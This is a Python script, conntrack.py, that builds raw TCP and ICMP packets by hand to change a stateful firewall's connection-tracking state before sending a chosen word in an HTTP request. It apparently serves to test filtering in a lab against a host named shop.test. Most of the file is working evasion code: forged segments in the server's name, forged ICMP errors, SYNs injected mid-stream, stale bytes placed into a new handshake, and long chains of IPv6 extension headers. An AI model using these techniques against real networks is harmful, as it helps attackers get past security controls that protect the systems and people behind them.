#!/usr/bin/python3 -B
# SPDX-License-Identifier: GPL-3.0-or-later
"""conntrack.py ATTACK CLIENT SERVER PORT SOURCE_PORT WORD: what a client can do to conntrack's view of its connection
before it sends WORD in a request. Prints what came back of the last request, a line."""
import re
import socket
import struct
import sys
import time

import wire
from live import Link

FINAL = re.compile(rb"HTTP/1\.[01] (?!1\d\d)(\d{3})")


class Peer:
    """One connection with the server, its segments made by hand."""

    def __init__(self, client, server, port, source_port):
        self.link = Link("eth0")
        self.client, self.server = client, server
        self.src, self.dst = wire.inet(client), wire.inet(server)
        self.port, self.source_port = port, source_port
        self.seq, self.ack = source_port * 65537 & wire.MASK, 0
        self.received = b""
        self.end = ""

    def packet(self, body, proto=6, forged=False, extensions=0):
        src, dst = (self.dst, self.src) if forged else (self.src, self.dst)
        if len(src) == 4:
            return wire.ip4(src, dst, body, proto=proto)
        following = proto
        for _ in range(extensions):
            body, following = wire.ext6(60, following) + body, 60
        return wire.ip6(src, dst, body, proto=following)

    def send(self, flags, data=b"", extensions=0, **more):
        seq, ack = more.pop("seq", self.seq), more.pop("ack", self.ack)
        segment = wire.tcp(self.src, self.dst, self.source_port, self.port, seq, ack, wire.flag_bits(flags), data=data, **more)
        self.link.send(self.server, self.packet(segment, extensions=extensions))

    def forge(self, flags, seq=1, ack=1, data=b""):
        """In the server's name, towards the server: the bridge takes it over, the server does not."""
        segment = wire.tcp(self.dst, self.src, self.port, self.source_port, seq, ack, wire.flag_bits(flags), data=data)
        self.link.send(self.server, self.packet(segment, forged=True))

    def take(self, packet):
        s = wire.parse(packet)
        if not s or (s.sport, s.dport, s.src) != (self.port, self.source_port, self.dst):
            return
        if s.flags & wire.RST:
            self.end = "reset"
        elif s.flags & wire.FIN and s.seq + len(s.data) == self.ack:
            self.ack = (self.ack + 1) & wire.MASK
            self.send("A")
        elif s.flags & wire.SYN:
            self.ack = (s.seq + 1) & wire.MASK
        elif s.data and s.seq == self.ack:
            self.received += s.data
            self.ack = (s.seq + len(s.data)) & wire.MASK
            self.send("A")

    def wait(self, done, seconds):
        until = time.monotonic() + seconds
        while not done() and not self.end and time.monotonic() < until:
            for packet in self.link.receive():
                self.take(packet)
            time.sleep(0.002)
        return done()

    def open(self):
        for _ in range(3):
            self.send("S", seq=self.seq, ack=0, options=b"\x02\x04\x05\xb4")
            if self.wait(lambda: self.ack, 1):
                break
        self.seq = (self.seq + 1) & wire.MASK
        self.send("A")
        return self.ack

    def ask(self, word, tries=3, connection="keep-alive", **more):
        """A request on the open connection; what came back."""
        data = (b"GET /find?q=%s HTTP/1.1\r\nHost: shop.test\r\nConnection: %s\r\nUser-Agent: curl\r\nAccept: */*\r\n\r\n"
                % (word.encode(), connection.encode()))
        self.received = b""
        seq, self.seq = self.seq, (self.seq + len(data)) & wire.MASK
        for _ in range(tries):
            self.send("PA", data, seq=seq, **more)
            if self.wait(lambda: FINAL.search(self.received), 1):
                return FINAL.search(self.received).group(1).decode()
        return self.end or "nothing"

    def icmp_error(self, inner_proto=6, kind=3, code=4, data=b""):
        """An error of ours about a packet of the connection that came from the server."""
        v4 = len(self.src) == 4
        ports = struct.pack("!HHI", self.port, self.source_port, 0)
        inner = (wire.ip4 if v4 else wire.ip6)(self.dst, self.src, ports + bytes(12), proto=inner_proto)
        head = struct.pack("!BBHI", kind if v4 else 1, code, 0, 1400)
        body = head + inner + data
        total = wire.ones_sum((b"" if v4 else self.src + self.dst + struct.pack("!II", len(body), 58)) + body) ^ 0xFFFF
        body = body[:2] + struct.pack("!H", total) + body[4:]
        self.link.send(self.server, self.packet(body, proto=1 if v4 else 58))


def asked(peer, word, **more):
    """Two harmless requests, then the word."""
    if not peer.open():
        return "closed"
    first = peer.ask("harmless")
    second = peer.ask("harmless")
    return f"{first} {second} {peer.ask(word, **more)}"


def forged_first(flags):
    def play(peer, word):
        peer.forge(flags)
        time.sleep(0.3)
        return asked(peer, word)
    return play


def forged_first_data(peer, word):
    peer.forge("PA", data=b"x")
    time.sleep(0.3)
    return asked(peer, word)


def related(peer, word):
    if not peer.open():
        return "closed"
    first = peer.ask("harmless")
    peer.icmp_error()
    time.sleep(0.3)
    return f"{first} {peer.ask('harmless')} {peer.ask(word)}"


def syn_amid(peer, word):
    if not peer.open():
        return "closed"
    first = peer.ask("harmless")
    peer.send("S", seq=peer.seq + 100000, ack=0)
    time.sleep(0.2)
    return f"{first} {peer.ask('harmless')} {peer.ask(word)}"


def next_on_offloaded(peer, word):
    """The server closes an offloaded connection, we do not, and it forgets; between the next one's SYN and SYN-ACK
    come bytes of the old one."""
    if not peer.open():
        return "closed"
    first = peer.ask("tunnel")
    second = peer.ask("harmless", connection="close")
    peer.wait(lambda: False, 4)
    old = peer.seq
    peer.seq, peer.ack, peer.end = (peer.seq + 5000000) & wire.MASK, 0, ""
    peer.send("S", ack=0, options=b"\x02\x04\x05\xb4")
    peer.send("PA", b"old bytes", seq=old, ack=1)
    if not peer.wait(lambda: peer.ack, 1):
        return f"{first} {second} {peer.end or 'closed'}"
    peer.seq = (peer.seq + 1) & wire.MASK
    peer.send("A")
    return f"{first} {second} {peer.ask(word)}"


ATTACKS = {
    "plain": asked,
    "ack-first": forged_first("A"),
    "data-first": forged_first_data,
    "syn-first": forged_first("S"),
    "syn-ack-first": forged_first("SA"),
    "related": related,
    "syn-amid": syn_amid,
    "next-on-offloaded": next_on_offloaded,
    "extensions": lambda peer, word: asked(peer, word, extensions=10),
}


def main():
    attack, client, server, port, source_port, word = sys.argv[1:7]
    socket.setdefaulttimeout(10)
    print(ATTACKS[attack](Peer(client, server, int(port), int(source_port)), word))


main()
